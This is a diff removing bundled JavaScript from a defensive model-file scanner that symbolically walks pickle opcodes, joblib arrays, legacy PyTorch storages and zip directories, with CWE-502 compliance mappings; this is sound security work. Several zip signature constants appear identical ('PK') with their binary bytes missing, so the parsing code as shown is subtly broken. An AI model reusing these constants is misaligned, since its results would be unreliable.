-      chunks.push(value);
-      total += value.length;
-      if (total >= cap) {
-        limitReached = hitsLimit(options);
-        break;
-      }
-    }
-  } catch (caught) {
-    error = describe(caught);
-  }
-  stopped = true;
-  await reader.cancel().catch(() => void 0);
-  await writer.abort().catch(() => void 0);
-  await feeding;
-  if (!error && feedError && total < cap) error = describe(feedError);
-  return { bytes: concatBytes(chunks, Math.min(total, cap)), limitReached, ...error ? { error } : {} };
-}
-function hitsLimit(options) {
-  return options.want === void 0 || options.want >= options.limit;
-}
-function describe(error) {
-  return error instanceof Error ? error.message : String(error);
-}
-
-// src/artifacts/containers/cursor.ts
-var WINDOW = 1 << 20;
-var ByteCursor = class {
-  constructor(source, start2 = 0) {
-    this.source = source;
-    this.position = start2;
-  }
-  source;
-  buffer = new Uint8Array(0);
-  bufferStart = 0;
-  position;
-  get remaining() {
-    return Math.max(0, this.source.size - this.position);
-  }
-  /** Makes `count` bytes from the position available; false at end of source. */
-  async need(count) {
-    if (this.position + count > this.source.size) return false;
-    const offset = this.position - this.bufferStart;
-    if (offset >= 0 && offset + count <= this.buffer.length) return true;
-    this.buffer = await readRange(this.source, this.position, Math.max(WINDOW, count));
-    this.bufferStart = this.position;
-    return this.buffer.length >= count;
-  }
-  /** Bytes at the position; only valid after a successful need(count). */
-  peek(count) {
-    const offset = this.position - this.bufferStart;
-    return this.buffer.subarray(offset, offset + count);
-  }
-  async take(count) {
-    if (!await this.need(count)) return null;
-    const bytes = this.peek(count);
-    this.position += count;
-    return bytes;
-  }
-  /** Bytes up to (not including) the next newline, consuming the newline; null if none within `max`. */
-  async line(max) {
-    const available = Math.min(max + 1, this.remaining);
-    if (!await this.need(available)) return null;
-    const window2 = this.peek(available);
-    const end = window2.indexOf(10);
-    if (end < 0) return null;
-    this.position += end + 1;
-    return window2.subarray(0, end);
-  }
-};
-
-// src/artifacts/containers/pickle-walk.ts
-var OTHER = { t: "other" };
-var MAX_LINE = 1 << 16;
-var MAX_MEMO = 1 << 20;
-var MAX_CONTAINER_ITEMS = 1 << 16;
-var MAX_STACK = 1 << 20;
-var MAX_TRACKED_STRING = 1 << 16;
-var SKIPPED = new Uint8Array(0);
-var LARGE_STRING = 1 << 20;
-async function walkPickle(cursor, maxOpcodes, hooks = {}) {
-  const stack = [];
-  const memo = /* @__PURE__ */ new Map();
-  let opcodes = 0;
-  const fail = (message15, offset) => ({ end: null, error: { message: message15, offset }, opcodes });
-  const pop = () => stack.pop() ?? OTHER;
-  const popToMark = () => {
-    const items = [];
-    while (stack.length > 0) {
-      const value = stack.pop();
-      if (value.t === "mark") break;
-      if (items.length < MAX_CONTAINER_ITEMS) items.push(value);
-    }
-    return items.reverse();
-  };
-  const setMemo = (key, value) => {
-    if (memo.size < MAX_MEMO || memo.has(key)) memo.set(key, value);
-  };
-  const sized = async (lengthBytes, read) => {
-    const lengthField = cursor.position;
-    const head = await cursor.take(lengthBytes);
-    if (!head) return null;
-    const length = read(head);
-    if (!Number.isFinite(length) || length < 0) return null;
-    if (length <= MAX_TRACKED_STRING) return cursor.take(length);
-    if (cursor.position + length > cursor.source.size) return null;
-    if (length > LARGE_STRING) hooks.largeString?.({ lengthField, lengthSize: lengthBytes, payload: cursor.position, length });
-    cursor.position += length;
-    return SKIPPED;
-  };
-  while (opcodes < maxOpcodes) {
-    const at = cursor.position;
-    if (stack.length > MAX_STACK) return fail(`stack deeper than ${MAX_STACK} entries`, at);
-    const opBytes = await cursor.take(1);
-    if (!opBytes) return fail("pickle ends without STOP", at);
-    const op = opBytes[0];
-    opcodes++;
-    switch (op) {
-      case 46:
-        return { end: cursor.position, value: stack[stack.length - 1] ?? OTHER, opcodes };
-      case 128:
-        if (!await cursor.take(1)) return fail("truncated PROTO", at);
-        break;
-      case 149:
-        if (!await cursor.take(8)) return fail("truncated FRAME", at);
-        break;
-      case 40:
-        stack.push({ t: "mark" });
-        break;
-      case 78:
-        stack.push({ t: "none" });
-        break;
-      case 136:
-      // NEWTRUE
-      case 137:
-        stack.push({ t: "bool", v: op === 136 });
-        break;
-      case 74: {
-        const b = await cursor.take(4);
-        if (!b) return fail("truncated BININT", at);
-        stack.push({ t: "int", v: i32le(b, 0) });
-        break;
-      }
-      case 75: {
-        const b = await cursor.take(1);
-        if (!b) return fail("truncated BININT1", at);
-        stack.push({ t: "int", v: b[0] });
-        break;
-      }
-      case 77: {
-        const b = await cursor.take(2);
-        if (!b) return fail("truncated BININT2", at);
-        stack.push({ t: "int", v: u16le(b, 0) });
-        break;
-      }
-      case 138:
-      // LONG1
-      case 139: {
-        const body2 = await sized(op === 138 ? 1 : 4, (h) => op === 138 ? h[0] : u32le(h, 0));
-        if (!body2) return fail("truncated LONG", at);
-        stack.push(smallLong(body2));
-        break;
-      }
-      case 73:
-      // INT
-      case 76: {
-        const line = await cursor.line(MAX_LINE);
-        if (!line) return fail("unterminated INT/LONG", at);
-        const text = latin1(line).replace(/L$/, "");
-        if (op === 73 && (text === "00" || text === "01")) stack.push({ t: "bool", v: text === "01" });
-        else stack.push(/^-?\d{1,15}$/.test(text) ? { t: "int", v: Number(text) } : OTHER);
-        break;
-      }
-      case 70:
-      // FLOAT
-      case 83:
-      // STRING
-      case 86: {
-        const line = await cursor.line(MAX_LINE);
-        if (!line) return fail("unterminated text argument", at);
-        if (op === 70) stack.push(OTHER);
-        else stack.push({ t: "str", v: op === 83 ? latin1(line).replace(/^(['"])(.*)\1$/s, "$2") : latin1(line) });
-        break;
-      }
-      case 71:
-        if (!await cursor.take(8)) return fail("truncated BINFLOAT", at);
-        stack.push(OTHER);
-        break;
-      case 84:
-      // BINSTRING
-      case 66:
-      // BINBYTES
-      case 88: {
-        const body2 = await sized(4, (h) => u32le(h, 0));
-        if (!body2) return fail("truncated string", at);
-        stack.push({ t: "str", v: op === 88 ? utf8(body2) : latin1(body2) });
-        break;
-      }
-      case 85:
-      // SHORT_BINSTRING
-      case 67:
-      // SHORT_BINBYTES
-      case 140: {
-        const body2 = await sized(1, (h) => h[0]);
-        if (!body2) return fail("truncated string", at);
-        stack.push({ t: "str", v: op === 140 ? utf8(body2) : latin1(body2) });
-        break;
-      }
-      case 141:
-      // BINUNICODE8
-      case 142:
-      // BINBYTES8
-      case 150: {
-        const body2 = await sized(8, (h) => u64le(h, 0));
-        if (!body2) return fail("truncated string", at);
-        stack.push(op === 141 ? { t: "str", v: utf8(body2) } : OTHER);
-        break;
-      }
-      case 41:
-        stack.push({ t: "tuple", items: [] });
-        break;
-      case 116:
-        stack.push({ t: "tuple", items: popToMark() });
-        break;
-      case 133:
-      // TUPLE1
-      case 134:
-      // TUPLE2
-      case 135: {
-        const count = op - 132;
-        const items = stack.splice(Math.max(0, stack.length - count), count);
-        stack.push({ t: "tuple", items });
-        break;
-      }
-      case 93:
-      // EMPTY_LIST
-      case 143:
-        stack.push(OTHER);
-        break;
-      case 108:
-      // LIST
-      case 145:
-        popToMark();
-        stack.push(OTHER);
-        break;
-      case 97:
-        pop();
-        break;
-      case 101:
-      // APPENDS
-      case 144:
-        popToMark();
-        break;
-      case 125:
-        stack.push({ t: "dict", entries: /* @__PURE__ */ new Map() });
-        break;
-      case 100: {
-        const items = popToMark();
-        const dict = { t: "dict", entries: /* @__PURE__ */ new Map() };
-        for (let i2 = 0; i2 + 1 < items.length; i2 += 2) setEntry(dict, items[i2], items[i2 + 1]);
-        stack.push(dict);
-        break;
-      }
-      case 115: {
-        const value = pop();
-        const key = pop();
-        setEntry(stack[stack.length - 1], key, value);
-        break;
-      }
-      case 117: {
-        const items = popToMark();
-        for (let i2 = 0; i2 + 1 < items.length; i2 += 2) setEntry(stack[stack.length - 1], items[i2], items[i2 + 1]);
-        break;
-      }
-      case 48:
-        pop();
-        break;
-      case 49:
-        popToMark();
-        break;
-      case 50:
-        stack.push(stack[stack.length - 1] ?? OTHER);
-        break;
-      case 99: {
-        const module2 = await cursor.line(MAX_LINE);
-        const name2 = module2 && await cursor.line(MAX_LINE);
-        if (!module2 || !name2) return fail("unterminated GLOBAL", at);
-        stack.push({ t: "global", name: `${latin1(module2)}.${latin1(name2)}` });
-        break;
-      }
-      case 147: {
-        const name2 = pop();
-        const module2 = pop();
-        stack.push(
-          module2.t === "str" && name2.t === "str" ? { t: "global", name: `${module2.v}.${name2.v}` } : OTHER
-        );
-        break;
-      }
-      case 105: {
-        const module2 = await cursor.line(MAX_LINE);
-        const name2 = module2 && await cursor.line(MAX_LINE);
-        if (!module2 || !name2) return fail("unterminated INST", at);
-        const args2 = popToMark();
-        stack.push({ t: "obj", cls: `${latin1(module2)}.${latin1(name2)}`, args: { t: "tuple", items: args2 } });
-        break;
-      }
-      case 111: {
-        const items = popToMark();
-        const cls = items.shift();
-        stack.push({ t: "obj", cls: cls?.t === "global" ? cls.name : "?", args: { t: "tuple", items } });
-        break;
-      }
-      case 82:
-      // REDUCE
-      case 129: {
-        const args2 = pop();
-        const callable = pop();
-        stack.push({ t: "obj", cls: callable.t === "global" ? callable.name : "?", args: args2 });
-        break;
-      }
-      case 146: {
-        pop();
-        const args2 = pop();
-        const cls = pop();
-        stack.push({ t: "obj", cls: cls.t === "global" ? cls.name : "?", args: args2 });
-        break;
-      }
-      case 98: {
-        const state = pop();
-        const target = stack[stack.length - 1];
-        if (target?.t === "obj") target.state = state;
-        if (hooks.afterBuild && target) {
-          const skip = await hooks.afterBuild(target, cursor.position, cursor);
-          if (skip < 0) return fail("raw data after BUILD could not be sized", at);
-          if (skip > 0) {
-            if (cursor.position + skip > cursor.source.size) return fail("raw data after BUILD is truncated", at);
-            cursor.position += skip;
-            stack[stack.length - 1] = OTHER;
-          }
-        }
-        break;
-      }
-      case 103:
-      // GET
-      case 112: {
-        const line = await cursor.line(MAX_LINE);
-        if (!line) return fail("unterminated GET/PUT", at);
-        const key = Number(latin1(line));
-        if (op === 103) stack.push(memo.get(key) ?? OTHER);
-        else setMemo(key, stack[stack.length - 1] ?? OTHER);
-        break;
-      }
-      case 104:
-      // BINGET
-      case 106:
-      // LONG_BINGET
-      case 113:
-      // BINPUT
-      case 114: {
-        const wide = op === 106 || op === 114;
-        const b = await cursor.take(wide ? 4 : 1);
-        if (!b) return fail("truncated memo opcode", at);
-        const key = wide ? u32le(b, 0) : b[0];
-        if (op === 104 || op === 106) stack.push(memo.get(key) ?? OTHER);
-        else setMemo(key, stack[stack.length - 1] ?? OTHER);
-        break;
-      }
-      case 148:
-        setMemo(memo.size, stack[stack.length - 1] ?? OTHER);
-        break;
-      case 80:
-        if (!await cursor.line(MAX_LINE)) return fail("unterminated PERSID", at);
-        stack.push(OTHER);
-        break;
-      case 81:
-        pop();
-        stack.push(OTHER);
-        break;
-      case 130:
-      // EXT1
-      case 131:
-      // EXT2
-      case 132:
-        if (!await cursor.take(op === 130 ? 1 : op === 131 ? 2 : 4)) return fail("truncated EXT", at);
-        stack.push(OTHER);
-        break;
-      case 151:
-        stack.push(OTHER);
-        break;
-      case 152:
-        break;
-      default:
-        return fail(`unknown opcode 0x${op.toString(16).padStart(2, "0")}`, at);
-    }
-  }
-  return fail(`stopped after ${maxOpcodes} opcodes`, cursor.position);
-}
-function setEntry(target, key, value) {
-  if (target?.t !== "dict" || key.t !== "str") return;
-  if (target.entries.size < MAX_CONTAINER_ITEMS) target.entries.set(key.v, value);
-}
-function smallLong(body2) {
-  if (body2.length === 0) return { t: "int", v: 0 };
-  if (body2.length > 6) return body2.length === 8 ? maybe(i64le(body2, 0)) : OTHER;
-  let value = 0;
-  for (let i2 = body2.length - 1; i2 >= 0; i2--) value = value * 256 + body2[i2];
-  if (body2[body2.length - 1] & 128) value -= 2 ** (8 * body2.length);
-  return { t: "int", v: value };
-}
-function maybe(value) {
-  return Number.isNaN(value) ? OTHER : { t: "int", v: value };
-}
-
-// src/artifacts/containers/joblib.ts
-async function locateJoblibArrays(source, start2, maxOpcodes) {
-  const arrays = [];
-  const largeStrings = [];
-  const cursor = new ByteCursor(source, start2);
-  let sizingError;
-  const result2 = await walkPickle(cursor, maxOpcodes, {
-    async afterBuild(built, next, inner) {
-      if (built.t !== "obj" || !isArrayWrapper(built.cls)) return 0;
-      const sized = await sizeArray(built, next, inner, maxOpcodes);
-      if (typeof sized === "string") {
-        sizingError = sized;
-        return -1;
-      }
-      arrays.push(sized);
-      return sized.length;
-    },
-    largeString: (region2) => largeStrings.push(region2)
-  });
-  const error = result2.error && sizingError ? { ...result2.error, message: sizingError } : result2.error;
-  return { arrays, largeStrings, end: result2.end, ...error ? { error } : {} };
-}
-function isArrayWrapper(cls) {
-  return cls.endsWith("numpy_pickle.NumpyArrayWrapper");
-}
-async function sizeArray(wrapper, offset, cursor, maxOpcodes) {
-  const state = wrapper.state?.t === "dict" ? wrapper.state.entries : void 0;
-  if (!state) return "joblib array wrapper without a state dict";
-  const dtype = describeDtype(state.get("dtype"));
-  if (!dtype) return "joblib array wrapper with an unrecognised dtype";
-  const shapeValue = state.get("shape");
-  const shape = shapeValue?.t === "tuple" && shapeValue.items.every((i2) => i2.t === "int" && i2.v >= 0) ? shapeValue.items.map((i2) => i2.v) : null;
-  if (!shape) return "joblib array wrapper with an unreadable shape";
-  if (dtype.object) {
-    const nested = await walkPickle(new ByteCursor(cursor.source, offset), maxOpcodes);
-    if (nested.end === null) return `joblib object array pickle is broken: ${nested.error?.message ?? "no STOP"}`;
-    return { offset, length: nested.end - offset, dtype: dtype.code, shape, objectPickle: true };
-  }
-  const count = shape.reduce((a, b) => a * b, 1);
-  const bytes = count * dtype.itemsize;
-  if (!Number.isSafeInteger(bytes)) return "joblib array size overflows";
-  let padding = 0;
-  const alignment = state.get("numpy_array_alignment_bytes");
-  if (alignment && alignment.t !== "none") {
-    const padByte = await cursor.take(1);
-    cursor.position = offset;
-    if (!padByte) return "joblib array padding byte is missing";
-    padding = 1 + padByte[0];
-  }
-  return { offset, length: padding + bytes, dtype: dtype.code, shape, objectPickle: false };
-}
-function describeDtype(value) {
-  if (value?.t !== "obj" || !/(^|\.)dtype$/.test(value.cls)) return null;
-  const code3 = value.args?.t === "tuple" && value.args.items[0]?.t === "str" ? value.args.items[0].v : null;
-  if (code3 === null) return null;
-  const state = value.state?.t === "tuple" ? value.state.items : [];
-  const fields = state[3];
-  if (fields && fields.t !== "none") return null;
-  const match = /^[<>|=]?([a-zA-Z])(\d*)/.exec(code3);
-  if (!match) return null;
-  const kind = match[1];
-  if (kind === "O") return { code: code3, itemsize: 8, object: true };
-  let itemsize = match[2] ? Number(match[2]) : 0;
-  if (kind === "U") itemsize *= 4;
-  if (kind === "M" || kind === "m") itemsize = itemsize || 8;
-  if (kind === "V" && itemsize === 0) {
-    const elsize = state[5];
-    itemsize = elsize?.t === "int" && elsize.v > 0 ? elsize.v : 0;
-  }
-  if (kind === "?" || kind === "b" && itemsize === 0) itemsize = 1;
-  if (!(itemsize > 0)) return null;
-  return { code: code3, itemsize, object: false };
-}
-
-// src/artifacts/containers/torch-legacy.ts
-var MAGIC_LONG1 = [138, 10, 108, 252, 156, 70, 249, 32, 106, 168, 80, 25];
-var LEGACY_STACKED_PICKLES = 5;
-function isLegacyTorchMagic(firstPickle) {
-  return indexOf(firstPickle.subarray(0, 32), MAGIC_LONG1) >= 0;
-}
-var ELEMENT_SIZES = {
-  DoubleStorage: 8,
-  FloatStorage: 4,
-  HalfStorage: 2,
-  LongStorage: 8,
-  IntStorage: 4,
-  ShortStorage: 2,
-  CharStorage: 1,
-  ByteStorage: 1,
-  BoolStorage: 1,
-  BFloat16Storage: 2,
-  ComplexFloatStorage: 8,
-  ComplexDoubleStorage: 16,
-  QInt8Storage: 1,
-  QUInt8Storage: 1,
-  QInt32Storage: 4
-};
-var MAX_RECORDS = 1 << 20;
-async function locateLegacyStorages(source, maxOpcodes) {
-  return walkRecords(source, maxOpcodes, "storage", async (value, cursor) => {
-    const type = value?.t === "tuple" ? value.items[2] : void 0;
-    const typeName2 = type?.t === "global" ? type.name.slice(type.name.lastIndexOf(".") + 1) : "";
-    const elementSize = ELEMENT_SIZES[typeName2];
-    if (!elementSize) return `unknown storage type ${typeName2 || "(untracked)"}`;
-    const sizeBytes = await cursor.take(8);
-    const count = sizeBytes ? i64le(sizeBytes, 0) : Number.NaN;
-    if (!(count >= 0)) return "storage size is missing or invalid";
-    return count * elementSize;
-  });
-}
-async function locateLegacyTensors(source, maxOpcodes) {
-  return walkRecords(source, maxOpcodes, "tensor", async (_value, cursor) => {
-    const head = await cursor.take(8);
-    const ndim = head ? i32le(head, 0) : -1;
-    if (ndim < 0 || ndim > 64) return "tensor rank is missing or invalid";
-    return 16 * ndim + 8;
-  });
-}
-async function walkRecords(source, maxOpcodes, what, skipAfter) {
-  const layout = { pickles: [], warnings: [] };
-  const cursor = new ByteCursor(source, 0);
-  const countWalk = await walkPickle(cursor, maxOpcodes);
-  if (countWalk.end === null) {
-    layout.warnings.push(`${what} count pickle is broken: ${countWalk.error?.message ?? "no STOP"}`);
-    layout.pickles.push({ start: 0, end: source.size, label: `${what} count` });
-    return layout;
-  }
-  layout.pickles.push({ start: 0, end: countWalk.end, label: `${what} count` });
-  const count = countWalk.value?.t === "int" ? countWalk.value.v : -1;
-  if (count < 0) {
-    layout.warnings.push(`${what} count is not an integer; the rest of the member was not inspected`);
-    return layout;
-  }
-  for (let i2 = 0; i2 < Math.min(count, MAX_RECORDS); i2++) {
-    const start2 = cursor.position;
-    if (start2 >= source.size) {
-      layout.warnings.push(`${what} records end after ${i2} of ${count}`);
-      break;
-    }
-    const walk = await walkPickle(cursor, maxOpcodes);
-    layout.pickles.push({ start: start2, end: walk.end ?? source.size, label: `${what} ${i2}` });
-    if (walk.end === null) {
-      layout.warnings.push(`${what} ${i2} pickle is broken: ${walk.error?.message ?? "no STOP"}`);
-      break;
-    }
-    const skip = await skipAfter(walk.value, cursor);
-    if (typeof skip === "string") {
-      layout.warnings.push(`${what} ${i2}: ${skip}; the rest of the member was not inspected`);
-      break;
-    }
-    cursor.position += skip;
-  }
-  return layout;
-}
-
-// src/artifacts/containers/zip.ts
-var LOCAL_SIG = ascii("PK");
-var CENTRAL_SIG = ascii("PK");
-var EOCD_SIG = ascii("PK");
-var ZIP64_EOCD_SIG = ascii("PK");
-var ZIP64_LOCATOR_SIG = ascii("PK\x07");
-var DESCRIPTOR_SIG = ascii("PK\x07\b");
-var EOCD_SEARCH = 22 + 65535;
-var MAX_CENTRAL_DIRECTORY = 64 << 20;
-var SCAN_CHUNK = 1 << 20;
-var METHOD_STORED = 0;
-var METHOD_DEFLATE = 8;
-var METHOD_BZIP2 = 12;
-var METHOD_LZMA = 14;
-function zipLzmaAsAlone(member, uncompressedSize) {
-  if (member.length < 4) return null;
-  const propsSize = u16le(member, 2);
-  if (propsSize !== 5 || member.length < 4 + propsSize) return null;
-  const out2 = new Uint8Array(5 + 8 + member.length - 9);
-  out2.set(member.subarray(4, 9), 0);
-  let size = Number.isSafeInteger(uncompressedSize) && uncompressedSize >= 0 && uncompressedSize !== 4294967295 ? uncompressedSize : -1;
-  for (let i2 = 0; i2 < 8; i2++) {
-    out2[5 + i2] = size < 0 ? 255 : size % 256;
-    if (size >= 0) size = Math.floor(size / 256);
-  }
-  out2.set(member.subarray(9), 13);
-  return out2;
-}
-async function readZipDirectory(source, options) {
-  const warnings = [];
-  const eocd = await findEocd(source, warnings);
-  if (!eocd) return null;
-  const delta = await locateCentralDirectory(source, eocd);
-  if (delta === null) {
-    warnings.push("zip central directory not found where the end record points; walking local headers instead");
-    const walked = await walkLocalHeaders(source, 0, options);
-    walked.warnings.unshift(...warnings);
-    return walked;
-  }
-  const cdStart = eocd.cdOffset + delta;
-  let cdSize = Math.min(eocd.cdSize, source.size - cdStart);
-  if (cdSize > MAX_CENTRAL_DIRECTORY) {
-    warnings.push(`zip central directory of ${eocd.cdSize} bytes exceeds ${MAX_CENTRAL_DIRECTORY}; reading its start only`);
-    cdSize = MAX_CENTRAL_DIRECTORY;
-  }
-  const cd = await readRange(source, cdStart, cdSize);
-  const directory = { entries: [], archiveStart: delta, fromCentralDirectory: true, warnings, tricks: [] };
-  let at = 0;
-  while (at + 46 <= cd.length && startsWith(cd, CENTRAL_SIG, at)) {
-    if (directory.entries.length >= options.maxEntries) {
-      warnings.push(`zip has more than ${options.maxEntries} entries; the rest were not inspected`);
-      break;
-    }
-    const nameLength = u16le(cd, at + 28);
-    const extraLength = u16le(cd, at + 30);
-    const commentLength = u16le(cd, at + 32);
-    const end = at + 46 + nameLength + extraLength + commentLength;
-    if (end > cd.length) {
-      warnings.push("zip central directory is truncated");
-      break;
-    }
-    const name2 = utf8(cd.subarray(at + 46, at + 46 + nameLength));
-    let compressedSize = u32le(cd, at + 20);
-    let uncompressedSize = u32le(cd, at + 24);
-    let localHeaderOffset = u32le(cd, at + 42);
-    const extra = cd.subarray(at + 46 + nameLength, at + 46 + nameLength + extraLength);
-    const wide = readZip64Extra(extra, {
-      uncompressed: uncompressedSize === 4294967295,
-      compressed: compressedSize === 4294967295,
-      offset: localHeaderOffset === 4294967295
-    });
-    uncompressedSize = wide.uncompressed ?? uncompressedSize;
-    compressedSize = wide.compressed ?? compressedSize;
-    localHeaderOffset = (wide.offset ?? localHeaderOffset) + delta;
-    const entry = {
-      name: name2,
-      method: u16le(cd, at + 10),
-      compressedSize,
-      uncompressedSize,
-      localHeaderOffset,
-      dataOffset: -1
-    };
-    await attachLocalHeader(source, entry, directory);
-    directory.entries.push(entry);
-    at = end;
-  }
-  if (directory.entries.length < eocd.entries && directory.entries.length < options.maxEntries) {
-    warnings.push(`zip end record announces ${eocd.entries} entries, central directory holds ${directory.entries.length}`);
-  }
-  flagDuplicateNames(directory);
-  return directory;
-}
-async function findEocd(source, warnings) {
-  const tailStart = Math.max(0, source.size - EOCD_SEARCH);
-  const tail = await readRange(source, tailStart, source.size - tailStart);
-  let candidate = lastIndexOf(tail, EOCD_SIG);
-  let fallback = -1;
-  while (candidate >= 0) {
-    if (candidate + 22 <= tail.length) {
-      if (candidate + 22 + u16le(tail, candidate + 20) === tail.length) break;
-      if (fallback < 0) fallback = candidate;
-    }
-    candidate = lastIndexOf(tail, EOCD_SIG, candidate - 1);
-  }
-  if (candidate < 0) candidate = fallback;
-  if (candidate < 0) return null;
-  const position = tailStart + candidate;
-  const eocd = {
-    position,
-    entries: u16le(tail, candidate + 10),
-    cdSize: u32le(tail, candidate + 12),
-    cdOffset: u32le(tail, candidate + 16),
-    recordPosition: position
-  };
-  if (candidate >= 20 && startsWith(tail, ZIP64_LOCATOR_SIG, candidate - 20)) {
-    const claimed = u64le(tail, candidate - 20 + 8);
-    const guesses = [claimed, position - 20 - 56].filter((p) => Number.isFinite(p) && p >= 0 && p + 56 <= source.size);
-    for (const at of guesses) {
-      const record = await readRange(source, at, 56);
-      if (!startsWith(record, ZIP64_EOCD_SIG)) continue;
-      eocd.entries = u64le(record, 32);
-      eocd.cdSize = u64le(record, 40);
-      eocd.cdOffset = u64le(record, 48);
-      eocd.recordPosition = at;
-      break;
-    }
-    if (eocd.recordPosition === position) warnings.push("zip64 locator present but its end record was not found");
-  }
-  return eocd;
-}
-async function locateCentralDirectory(source, eocd) {
-  const shifted = eocd.recordPosition - eocd.cdSize - eocd.cdOffset;
-  const candidates = [shifted, 0].filter((d, i2, all) => all.indexOf(d) === i2);
-  for (const delta of candidates) {
-    const at = eocd.cdOffset + delta;
-    if (!Number.isFinite(at) || at < 0 || at + 4 > source.size) continue;
-    if (eocd.cdSize === 0 && eocd.entries === 0) return delta;
-    if (startsWith(await readRange(source, at, 4), CENTRAL_SIG)) return delta;
-  }
-  return null;
-}
-function readZip64Extra(extra, need) {
-  for (let at = 0; at + 4 <= extra.length; ) {
-    const id = u16le(extra, at);
-    const size = u16le(extra, at + 2);
-    const body2 = extra.subarray(at + 4, Math.min(extra.length, at + 4 + size));
-    if (id === 1) {
-      const out2 = {};
-      let p = 0;
-      for (const field of ["uncompressed", "compressed", "offset"]) {
-        if (!need[field]) continue;
-        if (p + 8 > body2.length) break;
-        out2[field] = u64le(body2, p);
-        p += 8;
-      }
-      return out2;
-    }
-    at += 4 + size;
-  }
-  return {};
-}
-async function attachLocalHeader(source, entry, directory) {
-  const at = entry.localHeaderOffset;
-  if (!Number.isFinite(at) || at < 0 || at + 30 > source.size) {
-    directory.warnings.push(`zip member ${entry.name}: local header offset ${at} is outside the file`);
-    return;
-  }
-  const head = await readRange(source, at, 30);
-  if (!startsWith(head, LOCAL_SIG)) {
-    directory.warnings.push(`zip member ${entry.name}: no local header at offset ${at}`);
-    return;
-  }
-  const nameLength = u16le(head, 26);
-  const extraLength = u16le(head, 28);
-  entry.localName = utf8(await readRange(source, at + 30, nameLength));
-  entry.dataOffset = at + 30 + nameLength + extraLength;
-  if (entry.localName !== entry.name) {
-    directory.tricks.push({
-      member: entry.name,
-      message: `zip member named "${entry.name}" in the central directory but "${entry.localName}" in its local header`
-    });
-  }
-  const localMethod = u16le(head, 8);
-  if (localMethod !== entry.method) {
-    directory.tricks.push({
-      member: entry.name,
-      message: `zip member ${entry.name}: compression method ${entry.method} in the central directory but ${localMethod} locally`
-    });
-  }
-}
-function flagDuplicateNames(directory) {
-  const seen = /* @__PURE__ */ new Set();
-  for (const entry of directory.entries) {
-    if (seen.has(entry.name)) {
-      directory.tricks.push({ member: entry.name, message: `zip holds more than one member named "${entry.name}"` });
-    }
-    seen.add(entry.name);
-  }
-}
-async function walkLocalHeaders(source, start2, options) {
-  const directory = { entries: [], archiveStart: start2, fromCentralDirectory: false, warnings: [], tricks: [] };
-  let at = start2;
-  while (at + 30 <= source.size) {
-    const head = await readRange(source, at, 30);
-    if (!startsWith(head, LOCAL_SIG)) break;
-    if (directory.entries.length >= options.maxEntries) {
-      directory.warnings.push(`zip has more than ${options.maxEntries} entries; the rest were not inspected`);
-      break;
-    }
-    const nameLength = u16le(head, 26);
-    const extraLength = u16le(head, 28);
-    const name2 = utf8(await readRange(source, at + 30, nameLength));
-    const extra = await readRange(source, at + 30 + nameLength, extraLength);
-    let compressedSize = u32le(head, 18);
-    let uncompressedSize = u32le(head, 22);
-    const wide = readZip64Extra(extra, {
-      uncompressed: uncompressedSize === 4294967295,
-      compressed: compressedSize === 4294967295,
-      offset: false
-    });
-    compressedSize = wide.compressed ?? compressedSize;
-    uncompressedSize = wide.uncompressed ?? uncompressedSize;
-    const dataOffset = at + 30 + nameLength + extraLength;
-    const hasDescriptor = (u16le(head, 6) & 8) !== 0;
-    let next;
-    if (hasDescriptor && compressedSize === 0) {
-      const end = await findNextSignature(source, dataOffset);
-      compressedSize = end - dataOffset;
-      next = end;
-      if (startsWith(await readRange(source, end, 4), DESCRIPTOR_SIG)) next = end + 16;
-    } else {
-      next = dataOffset + compressedSize;
-    }
-    if (dataOffset + compressedSize > source.size) {
-      directory.warnings.push(`zip member ${name2} is truncated`);
-      compressedSize = Math.max(0, source.size - dataOffset);
-    }
-    directory.entries.push({
-      name: name2,
-      localName: name2,
-      method: u16le(head, 8),
-      compressedSize,
-      uncompressedSize,
-      localHeaderOffset: at,
-      dataOffset
-    });
-    if (!(next > at)) break;
-    at = next;
-  }
-  if (directory.entries.length > 0) {
-    directory.warnings.push("zip end-of-central-directory record missing or unusable; members found by walking local headers");
-  }
-  flagDuplicateNames(directory);
-  return directory;
-}
-async function findNextSignature(source, from) {
-  for (let at = from; at < source.size; at += SCAN_CHUNK - 3) {
-    const chunk = await readRange(source, at, SCAN_CHUNK);
-    const hits = [LOCAL_SIG, CENTRAL_SIG, DESCRIPTOR_SIG].map((sig) => indexOf(chunk, sig)).filter((hit) => hit >= 0);
-    if (hits.length > 0) return at + Math.min(...hits);
-    if (chunk.length < SCAN_CHUNK) break;
-  }
-  return source.size;
-}
-
-// src/artifacts/rules.ts
-var COMPLIANCE = [
-  { framework: "OWASP Top 10 2021", control: "A08:2021 Software and Data Integrity Failures" },
-  { framework: "CWE Top 25", control: "CWE-502 Deserialization of Untrusted Data" },
-  { framework: "NIST SP 800-53 Rev. 5", control: "SI-7 Software, Firmware, and Information Integrity" },
-  { framework: "NIST SP 800-218 (SSDF)", control: "PW.4.1 Acquire and maintain well-secured components" },
-  { framework: "PCI DSS 4.0", control: "6.2.4 Software engineering techniques prevent common attacks" }
-];
-var REFERENCES = [
-  { title: "CWE-502: Deserialization of Untrusted Data", url: "https://cwe.mitre.org/data/definitions/502.html" },
-  { title: "OWASP A08:2021 Software and Data Integrity Failures", url: "https://owasp.org/Top10/A08_2021-Software_and_Data_Integrity_Failures/" },
-  { title: "Python docs: pickle, Restricting Globals", url: "https://docs.python.org/3/library/pickle.html#restricting-globals" },
-  { title: "PyTorch docs: torch.load and weights_only", url: "https://pytorch.org/docs/stable/generated/torch.load.html" },
-  { title: "Hugging Face: Pickle scanning", url: "https://huggingface.co/docs/hub/security-pickle" },
-  { title: "safetensors", url: "https://github.com/huggingface/safetensors" }
-];
-var SAFE_EXAMPLE = [
-  "# Load tensors only: weights_only refuses every global outside PyTorch's allowlist",
-  'state = torch.load("model.pt", weights_only=True)',
-  "",
-  "# Better: a format that cannot run code",
-  "from safetensors.torch import load_file",
-  'state = load_file("model.safetensors")'
-].join("\n");
-var COMMON_FAQ = [
-  {
-    question: "Does Pathfinder load or unpickle the file?",
-    answer: "No. It reads the bytes and interprets pickle opcodes symbolically; nothing is imported or executed, and tensor data is skipped without being read."
-  },
-  {
-    question: "The file is named .pt/.bin/.npy; why is it treated as a zip, tar or pickle?",
-    answer: "Loaders decide by content, not by name, so Pathfinder does too. The extension is only a hint for which files to look at."
-  }
-];
